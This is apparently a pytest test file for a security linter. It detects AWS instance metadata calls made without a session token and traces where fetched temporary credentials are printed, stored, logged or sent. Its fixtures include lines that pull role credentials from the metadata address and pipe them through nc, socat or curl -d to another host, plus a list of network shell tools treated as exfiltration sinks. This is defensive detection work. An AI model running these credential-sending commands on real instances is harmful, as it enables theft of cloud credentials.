"""Which calls of the metadata service a script makes, and where credentials that it fetches go."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from iplint.aws.credential_exposure import exposures
from iplint.aws.metadata_calls import mentions_service, metadata_calls
from iplint.syntax.shell import Script

if TYPE_CHECKING:
    from collections.abc import Callable

    from iplint.finding import Report

MD = "http://169.254.169.254/latest/meta-data"
HEADER = "X-aws-ec2-metadata-token"


def kinds(text: str) -> list[str]:
    """The kinds of the calls in a text; those made only where there is no token are called fallbacks."""
    text = text.replace("MD/", f"{MD}/").replace("TOKEN-URL", "http://169.254.169.254/latest/api/token")
    calls = metadata_calls(Script(text), text)
    return ["fallback" if call.is_fallback else call.kind for call in calls]


@pytest.mark.parametrize(
    "command",
    [
        "curl MD/instance-id",
        "curl -sS --retry 3 MD/",
        "curl 169.254.169.254/latest/meta-data",
        "curl http://169.254.169.254",
        "curl http://169.254.169.254:80/1.0/meta-data",
        "curl http://169.254.169.254/2021-03-23/user-data",
        "curl http://169.254.169.254/latest/dynamic/instance-identity/document | jq -r .region",
        "curl 'http://[fd00:ec2::254]/latest/meta-data/'",
        "curl http://instance-data/latest/meta-data/",
        "curl --max-time $SECONDS MD/instance-id",
        "curl -H 'Accept: text/plain' MD/instance-id",
        "/usr/bin/curl -o /tmp/id MD/instance-id",
        "sudo curl -s MD/instance-id",
        "X=$(curl -s MD/instance-id)",
        "X=`curl -s MD/instance-id`",
        'echo "<h1>$(curl -s MD/instance-id)</h1>" > index.html',
        "curl -s \\\n    MD/instance-id",
        "M=http://169.254.169.254/latest; curl $M/meta-data/instance-id",
        'M=http://169.254.169.254; U="$M/latest"\ncurl "${U}/meta-data/instance-id"',
        'C="curl -s"; $C MD/instance-id',
        "curl MD/$1",
        "wget -qO- MD/instance-id",
        "until curl -s MD/instance-id; do sleep 1; done",
        "bash -c 'curl MD/instance-id'",
        "cat > /opt/run.sh <<'EOF'\n#!/bin/sh\ncurl MD/instance-id\nEOF",
        "cat <<EOF | sudo tee /opt/run.sh\nexport ID=\\$(curl MD/instance-id)\nEOF",
        "cat <<EOF\nID=$(curl MD/instance-id)\nEOF",
        "#cloud-config\nruncmd:\n  - curl MD/instance-id",
        "#cloud-config\nruncmd:\n  - [curl, -s, MD/instance-id]",
        '#cloud-config\nruncmd:\n  - ["curl", "-s", "MD/instance-id"]',
        '{"runCommand": ["curl MD/instance-id", "echo"]}',
        "ExecStart=/usr/bin/curl MD/instance-id",
        "$id = Invoke-RestMethod -Uri MD/instance-id",
        "$id = (Invoke-WebRequest MD/instance-id -UseBasicParsing).Content",
        'powershell.exe -Command "iwr MD/instance-id"',
        "(New-Object Net.WebClient).DownloadString('MD/instance-id')",
        'new WebClient().DownloadString(new Uri("MD/instance-id"))',
        "requests.get('MD/instance-id').text",
        "urllib2.urlopen('MD/instance-id').read()",
        "M = 'http://169.254.169.254/latest'\nrequests.get(M + '/meta-data/instance-id', timeout=2)",
        "M = 'http://169.254.169.254/latest'\nrequests.get(f'{M}/meta-data/instance-id')",
        "Net::HTTP.get(URI.parse('MD/instance-id'))",
        'file_get_contents("MD/instance-id")',
    ],
)
def test_calls_without_a_token(command: str) -> None:
    assert kinds(command) == ["without token"]


@pytest.mark.parametrize(
    "command",
    [
        'curl -H "X-aws-ec2-metadata-token: $TOKEN" MD/instance-id',
        'curl MD/instance-id --header "x-aws-ec2-metadata-token:$(cat t)"',
        'curl -sSH "X-aws-ec2-metadata-token: $T" MD/instance-id',
        'H="X-aws-ec2-metadata-token: $T"; curl -H "$H" MD/instance-id',
        'C="curl -s -H X-aws-ec2-metadata-token:$T"; $C MD/instance-id',
        'A=(-s -H "X-aws-ec2-metadata-token: $T"); curl "${A[@]}" MD/instance-id',
        'wget --header="X-aws-ec2-metadata-token: $T" -qO- MD/instance-id',
        '$h = @{"X-aws-ec2-metadata-token" = $t}\nInvoke-RestMethod -Headers $h -Uri MD/instance-id',
        "requests.get('MD/instance-id', headers={'X-aws-ec2-metadata-token': t})",
        "h = {'X-aws-ec2-metadata-token': t}\nrequests.get('MD/instance-id', headers=h)",
    ],
)
def test_calls_with_a_token(command: str) -> None:
    assert kinds(command) == ["with token"]


@pytest.mark.parametrize(
    "command",
    [
        'curl -H "$HEADER" MD/instance-id',
        "curl $OPTIONS MD/instance-id",
        'curl -s "${OPTIONS[@]}" MD/instance-id',
        "curl -K /etc/curl.conf MD/instance-id",
        "$id = Invoke-RestMethod -Headers $h -Uri MD/instance-id",
        "requests.get('MD/instance-id', headers=headers())",
        "s.headers['X-aws-ec2-metadata-token'] = t\ns.get('MD/instance-id')",
    ],
)
def test_calls_whose_header_is_out_of_sight(command: str) -> None:
    assert kinds(command) == ["unknown"]


@pytest.mark.parametrize(
    "command",
    [
        'curl -X PUT "TOKEN-URL" -H "X-aws-ec2-metadata-token-ttl-seconds: 60"',
        "$t = Invoke-RestMethod -Method Put -Uri TOKEN-URL -Headers @{'X-aws-ec2-metadata-token-ttl-seconds' = '60'}",
        "t = requests.put('TOKEN-URL', headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'}).text",
    ],
)
def test_requests_for_a_token(command: str) -> None:
    assert kinds(command) == ["token request"]


@pytest.mark.parametrize(
    "text",
    [
        "# curl MD/instance-id",
        'echo "curl MD/instance-id"',
        "export NO_PROXY=169.254.169.254,localhost",
        "curl --noproxy 169.254.169.254 https://example.com/",
        "curl -x http://169.254.169.254:80 https://example.com/",
        "curl --proxy http://169.254.169.254:80 https://example.com/",
        "add-mirror https://example.com/dist/curl MD/instance-id",
        "iptables -A OUTPUT -d 169.254.169.254 -j DROP",
        "curl -H Metadata:true 'http://169.254.169.254/metadata/instance?api-version=2021-02-01'",
        "curl -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/",
        "curl http://169.254.169.254/opc/v2/instance/",
        "curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
        "curl http://169.254.169.2540/latest",
        "ec2-metadata --instance-id",
        "cloud-init query region",
        "Get-EC2InstanceMetadata -Category InstanceId",
        "aws sts get-caller-identity",
    ],
)
def test_what_is_no_call(text: str) -> None:
    assert kinds(text) == []


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        (f'curl -H "{HEADER}: $T" MD/id || curl MD/id', ["with token", "fallback"]),
        ("T=$(curl -X PUT TOKEN-URL) || T=\ncurl MD/id", ["token request", "without token"]),
        (
            'T=$(curl -X PUT TOKEN-URL || true)\nif [ -z "$T" ]; then\n  X=$(curl MD/id)\nelse\n'
            f'  curl -H "{HEADER}: $T" MD/id\nfi',
            ["token request", "fallback", "with token"],
        ),
        (
            f'if T=$(curl -f -X PUT TOKEN-URL); then curl -H "{HEADER}: $T" MD/id; else curl MD/id; fi\ncurl MD/id',
            ["token request", "with token", "fallback", "without token"],
        ),
        ("if [ -f /x ]; then curl MD/id; fi", ["without token"]),
    ],
)
def test_a_call_for_want_of_a_token_is_a_fallback(text: str, wanted: list[str]) -> None:
    assert kinds(text) == wanted


def test_a_call_stands_from_the_client_to_the_address() -> None:
    text = f"X=$(curl -s \\\n  {MD}/id | cut -c1)"
    (call,) = metadata_calls(Script(text), text)
    assert text[call.start : call.end] == f"curl -s \\\n  {MD}/id"
    code = f"left = total-requests.get('{MD}/id').text"
    (call,) = metadata_calls(Script(code), code)
    assert code[call.start :].startswith("requests.get(")


@pytest.mark.parametrize(("text", "possible"), [("curl https://example.com", False), (f"curl {MD}/", True)])
def test_texts_without_an_address_are_passed_over(text: str, possible: bool) -> None:
    assert mentions_service(text) is possible


ROLE = f"curl -s {MD}/iam/security-credentials/role"


def exposed(text: str) -> list[tuple[str, str, str]]:
    """What is exposed: by which command, how, and how grave that is."""
    text = text.replace("ROLE", ROLE)
    return [
        (text[found.start : found.end].replace(ROLE, "ROLE"), found.what.partition(" ")[0], found.gravity)
        for found in exposures(Script(text), text)
    ]


@pytest.mark.parametrize(
    ("text", "command", "what", "gravity"),
    [
        ("ROLE", "ROLE", "prints", "medium"),
        ("ROLE | jq -r .Token", "jq -r .Token", "prints", "medium"),
        ("ROLE > creds", "ROLE > creds", "stores", "high"),
        ("ROLE -o creds", "ROLE -o creds", "stores", "high"),
        ("ROLE | tee creds", "tee creds", "stores", "high"),
        ("ROLE | logger", "logger", "logs", "high"),
        ("ROLE > /dev/console", "ROLE > /dev/console", "logs", "high"),
        ("ROLE | nc 192.0.2.1 80", "nc 192.0.2.1 80", "sends", "high"),
        ("C=$(ROLE)\necho $C", "echo $C", "prints", "high"),
        (
            "C=$(ROLE)\nK=$(echo $C | jq -r .SecretAccessKey)\nprintf '%s' \"$K\"",
            "printf '%s' \"$K\"",
            "prints",
            "high",
        ),
        ('C=$(ROLE)\nT=$(jq -r .Token <<< "$C")\nlogger "t $T"', 'logger "t $T"', "logs", "high"),
        ("C=$(ROLE)\ncat > f <<EOF\nkey=$C\nEOF", "cat > f", "stores", "high"),
        ('C=$(ROLE)\necho "$C" >> f', 'echo "$C" >> f', "stores", "high"),
        ('C=$(ROLE)\n{\n  echo x\n  echo "$C"\n} >> f', 'echo "$C"', "stores", "high"),
        ('C=$(ROLE)\n(echo x; echo "$C") > f', 'echo "$C"', "stores", "high"),
        ('C=$(ROLE)\n{ echo x; } > f\necho "$C"', 'echo "$C"', "prints", "high"),
        ('C=$(ROLE)\ncurl -d "$C" https://example.com', 'curl -d "$C" https://example.com', "sends", "high"),
        (
            "C=$(ROLE)\naws configure set aws_session_token $C",
            "aws configure set aws_session_token $C",
            "stores",
            "medium",
        ),
        ("export AWS_SESSION_TOKEN=$(ROLE)\nenv", "env", "prints", "low"),
        (
            'export $(printf "AWS_ACCESS_KEY_ID=%s AWS_SECRET_ACCESS_KEY=%s" $(aws sts assume-role --role-arn x))\n'
            'echo "aws_secret_access_key=$AWS_SECRET_ACCESS_KEY" >> credentials',
            'echo "aws_secret_access_key=$AWS_SECRET_ACCESS_KEY" >> credentials',
            "stores",
            "high",
        ),
        ("eval $(aws configure export-credentials --format env)\nenv", "env", "prints", "low"),
        ("set -x\nC=$(ROLE)", "set -x", "traces", "low"),
        ("get() {\n  ROLE\n}\nget > f", "get > f", "stores", "high"),
        (
            f"u = '{MD}/iam/security-credentials/'\nc = requests.get(u + role).json()\nprint(c)",
            "print(c)",
            "prints",
            "high",
        ),
        ("aws configure export-credentials", "aws configure export-credentials", "prints", "medium"),
        ("aws sts assume-role --role-arn x > f", "aws sts assume-role --role-arn x > f", "stores", "high"),
        (
            "print(session.get_credentials().secret_key)",
            "print(session.get_credentials().secret_key)",
            "prints",
            "high",
        ),
        (
            f"c = requests.get('{MD}/iam/security-credentials/r')\nlogger.info(c.text)",
            "logger.info(c.text)",
            "prints",
            "high",
        ),
    ],
)
def test_credentials_that_get_out(text: str, command: str, what: str, gravity: str) -> None:
    assert exposed(text) == [(command, what, gravity)]


@pytest.mark.parametrize(
    "text",
    [
        f"curl {MD}/iam/security-credentials/",
        "ROLE > /dev/null",
        "ROLE -o /dev/null",
        "ROLE | jq -r .Expiration",
        "ROLE | grep -q Success",
        "C=$(ROLE)",
        "C=$(ROLE)\nI=$(echo $C | jq -r .AccessKeyId)\necho $I",
        'C=$(ROLE)\n[ -n "$C" ] && echo yes',
        "C=$(ROLE)\necho ${#C}",
        "C=$(ROLE)\nC=\necho $C",
        "C=$(ROLE)\ncat > f <<'EOF'\nkey=$C\nEOF",
        'C=$(ROLE)\ncurl -H "x-amz-security-token: $C" https://bucket.s3.amazonaws.com/key',
        "get() {\n  ROLE\n}\nC=$(get)",
        "cat > /usr/local/bin/helper <<'EOF'\nROLE\nEOF",
        "set -ex\necho hi",
        "C=$(aws sts assume-role --role-arn x)",
        "aws sts assume-role --role-arn x --query Credentials.Expiration",
        "eval $(aws configure export-credentials --format env)",
        "print(session.get_credentials().access_key)",
        "# print(session.get_credentials().secret_key)",
        "export C=$(ROLE)\necho $AWS_SECRET_ACCESS_KEY",
        "  // console.log(c.SecretAccessKey)",
        "ROLE -o NUL",
        "ROLE --output nul",
        "ROLE > $null",
        "ROLE | tee /dev/null > f.log | wc -l",
    ],
)
def test_credentials_that_stay(text: str) -> None:
    assert exposed(text) == []


STRICT = """
resource "aws_launch_template" "app" {
  user_data = base64encode(local.script)
  metadata_options {
    http_tokens = "required"
  }
}
locals {
  script = <<-EOT
    #!/bin/bash
    curl http://169.254.169.254/latest/meta-data/instance-id
  EOT
}
"""
RULE = "imdsv1-call-in-user-data"


def test_a_call_is_graver_where_tokens_are_required(configuration: Callable[..., Report]) -> None:
    (found,) = configuration(STRICT, rules=[RULE]).findings
    assert (found.severity.word, found.address, found.at.first) == ("high", "aws_launch_template.app", (11, 5))
    assert found.message == (
        "aws_launch_template.app calls the metadata service without a session token in user_data; "
        "this fails, as aws_launch_template.app does not allow IMDSv1"
    )
    assert [(step.at.first[0], step.message) for step in found.related] == [
        (5, "aws_launch_template.app does not allow IMDSv1")
    ]


@pytest.mark.parametrize("tokens", ['"optional"', "var.unset"])
def test_a_call_where_tokens_may_be_left_out_is_of_medium_severity(
    configuration: Callable[..., Report], tokens: str
) -> None:
    text = STRICT.replace('"required"', tokens) + 'variable "unset" {}\n'
    assert [found.severity.word for found in configuration(text, rules=[RULE]).findings] == ["medium"]


def test_a_text_that_no_launch_uses_is_not_judged(configuration: Callable[..., Report]) -> None:
    text = STRICT.replace("base64encode(local.script)", '""')
    assert configuration(text, rules=[RULE]).findings == []


@pytest.mark.parametrize("packing", ["base64encode", "base64gzip"])
def test_a_call_is_found_through_an_encoding(configuration: Callable[..., Report], packing: str) -> None:
    files = {
        "main.tf": f'resource "aws_instance" "app" {{\n  user_data_base64 = {packing}(file("boot.sh"))\n}}\n',
        "boot.sh": f"#!/bin/sh\n\ncurl {MD}/instance-id\n",
    }
    (found,) = configuration(files, rules=[RULE]).findings
    assert (found.at.path, found.at.first) == ("boot.sh", (3, 1))


def test_credentials_in_the_script_stay_out_of_the_message(template: Callable[..., Report]) -> None:
    report = template(
        "Resources:\n  App:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: |\n"
        f"          C=$({ROLE})\n          echo $C FAKESECRET\n",
        rules=["exposed-temporary-credentials"],
    )
    (found,) = report.findings
    assert (found.message, found.at.first) == ("App prints temporary credentials in UserData", (8, 11))


@pytest.mark.parametrize(
    ("call", "fix"),
    [("curl MD/id", "unsafe"), ("curl $OPTIONS MD/id", "unsafe"), (f'curl -H "{HEADER}: $T" MD/id', "safe")],
)
def test_to_require_tokens_may_break_a_call_without_one(template: Callable[..., Report], call: str, fix: str) -> None:
    text = "Resources:\n  Web:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData: !Base64 |\n"
    report = template(f"{text}        {call.replace('MD', MD)}\n", rules=["imdsv1-allowed"])
    (finding,) = report.findings
    assert (finding.fix, "without a session token" in finding.risk) == (fix, fix == "unsafe")


FILTERS = [
    *("jq", "sed", "awk", "gawk", "cut", "grep", "egrep", "tr", "cat", "head", "tail", "sort", "base64", "python"),
    *("python3", "perl", "ruby", "xargs", "json_pp", "yq", "tee", "ConvertFrom-Json", "ConvertTo-Json"),
    *("Select-Object", "Format-List", "Out-String"),
]


@pytest.mark.parametrize("name", FILTERS)
def test_a_filter_hands_credentials_on(name: str) -> None:
    assert [found[1:] for found in exposed(f"ROLE | {name}")] == [("prints", "medium")]
    assert exposed("ROLE | wc -l") == []


@pytest.mark.parametrize("name", ["logger", "wall", "mail", "sendmail", "Write-EventLog", "systemd-cat"])
def test_credentials_get_into_logs(name: str) -> None:
    assert [found[2] for found in exposed(f"ROLE | {name}")] == ["high"]


@pytest.mark.parametrize("name", ["nc", "ncat", "netcat", "socat"])
def test_credentials_get_to_other_hosts(name: str) -> None:
    assert [found[1] for found in exposed(f"ROLE | {name} example.com 80")] == ["sends"]


@pytest.mark.parametrize(
    ("body", "sent"),
    [
        ("-d $C", True),
        ("-d$C", True),
        ("--data-binary $C", True),
        ("--data=$C", True),
        ("-F x=$C", True),
        ("-T $C", True),
        ("--json $C", True),
        ("--post-data=$C", True),
        ("-H X-Amz-Security-Token:$C", False),
        ("-d x", False),
    ],
)
def test_credentials_are_sent_in_a_body_or_an_address(body: str, sent: bool) -> None:
    url = "https://example.com/x"
    assert [found[1] for found in exposed(f"C=$(ROLE)\ncurl {body} {url}")] == (["sends"] if sent else [])
    assert [found[1] for found in exposed(f"C=$(ROLE)\ncurl {url}?c=$C")] == ["sends"]


@pytest.mark.parametrize("name", ["Out-File", "Set-Content", "Add-Content", "Tee-Object"])
def test_credentials_get_into_files(name: str) -> None:
    assert "stores" in [found[1] for found in exposed(f"ROLE | {name} C:\\\\c.json")]


@pytest.mark.parametrize(
    ("options", "stored"),
    [
        ("-o f", True),
        ("-so f", True),
        ("--output f", True),
        ("--output=f", True),
        ("-O", True),
        ("--remote-name", True),
        ("-o -", False),
        ("-o /dev/stdout", False),
        ("--output=-", False),
        ("-s", False),
    ],
)
def test_a_client_writes_credentials_to_a_file_that_its_options_name(options: str, stored: bool) -> None:
    url = f"{MD}/iam/security-credentials/web"
    assert [found[1] for found in exposed(f"curl {options} {url}")] == ["stores" if stored else "prints"]


@pytest.mark.parametrize(
    ("options", "stored"),
    [("", True), ("-O f", True), ("-O -", False), ("-qO-", False), ("-O-", False), ("--output-document=-", False)],
)
def test_wget_writes_credentials_to_a_file_unless_told_otherwise(options: str, stored: bool) -> None:
    url = f"{MD}/iam/security-credentials/web"
    assert [found[1] for found in exposed(f"wget {options} {url}")] == ["stores" if stored else "prints"]


@pytest.mark.parametrize("listing", ["env", "printenv", "set", "export -p"])
@pytest.mark.parametrize("setting", ["eval $(SAY)", "export $(SAY)"])
def test_a_listing_of_the_environment_prints_credentials_that_were_set(setting: str, listing: str) -> None:
    text = f"{setting}\n{listing}\n".replace("SAY", "aws configure export-credentials --format env")
    assert [found[1] for found in exposed(text)] == ["prints"]
    assert exposed(f"{listing}\n{text.partition(chr(10))[0]}\n") == []


@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"])
def test_a_variable_that_a_command_has_set_is_printed(name: str) -> None:
    setting = "eval $(aws configure export-credentials --format env)\n"
    assert [found[1] for found in exposed(f"{setting}echo ${name}\n")] == ["prints"]
    assert exposed(f"{setting}echo $AWS_REGION\n") == []


SESSION = "s.headers['X-aws-ec2-metadata-token'] = t\n"


@pytest.mark.parametrize(
    ("call", "kind"),
    [
        ("s.get('MD/id')", "unknown"),
        ("urllib2.urlopen('MD/id').read()", "without token"),
        ("file_get_contents('MD/id')", "without token"),
        ("client.DownloadString('MD/id')", "without token"),
    ],
)
def test_a_header_of_a_session_is_sent_by_what_takes_one(call: str, kind: str) -> None:
    assert kinds(f"{SESSION}{call}") == [kind]
